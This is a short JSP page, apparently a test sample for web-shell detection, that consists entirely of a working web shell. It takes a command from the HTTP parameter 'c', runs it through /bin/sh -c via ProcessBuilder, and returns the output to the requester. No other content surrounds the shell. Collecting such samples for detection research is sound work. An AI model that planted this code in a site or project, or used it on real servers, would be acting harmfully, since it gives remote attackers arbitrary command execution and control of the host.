<%@ page import="java.io.*,java.util.*" %>
<%
    // test sample: shell taken apart into ProcessBuilder arguments
    String c = request.getParameter("c");
    if (c != null) {
        String[] argv = {"/bin/sh", "-c", c};
        Process p = new ProcessBuilder(argv).redirectErrorStream(true).start();
        Scanner s = new Scanner(p.getInputStream()).useDelimiter("\\A");
        out.print(s.hasNext() ? s.next() : "");
    }
%>
